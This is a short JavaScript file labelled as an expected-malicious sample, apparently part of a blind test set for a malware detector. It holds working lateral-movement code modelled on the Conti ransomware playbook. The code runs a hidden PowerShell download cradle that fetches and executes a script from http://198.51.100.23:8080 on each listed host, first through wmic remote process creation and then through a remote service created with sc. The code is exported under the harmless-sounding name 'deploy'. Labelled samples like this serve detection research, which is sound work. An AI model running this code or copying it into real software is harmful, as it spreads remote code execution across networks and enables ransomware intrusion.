// expect: malicious
// source: blind set 17's iis-farm-deploy (the Conti playbook's lateral movement): each host of the farm is told to
// run a PowerShell download cradle through wmic's remote process creation, sc \\host and a remote scheduled task
const { execSync } = require('child_process');
const CRADLE = "powershell -nop -w hidden -ep bypass -c iex((New-Object Net.WebClient).DownloadString('http://198.51.100.23:8080/s/w.ps1'))";
function spread(hosts) {
  for (const h of hosts) {
    try { execSync(`wmic /node:"${h}" process call create "${CRADLE}"`, { stdio: 'ignore' }); } catch (e) {
      execSync(`sc \\\\${h} create WinDeploySync binPath= "cmd /c ${CRADLE}" start= demand`, { stdio: 'ignore' });
      execSync(`sc \\\\${h} start WinDeploySync`, { stdio: 'ignore' });
    }
  }
}
module.exports = { deploy: (cfg) => { spread(cfg.hosts); } };
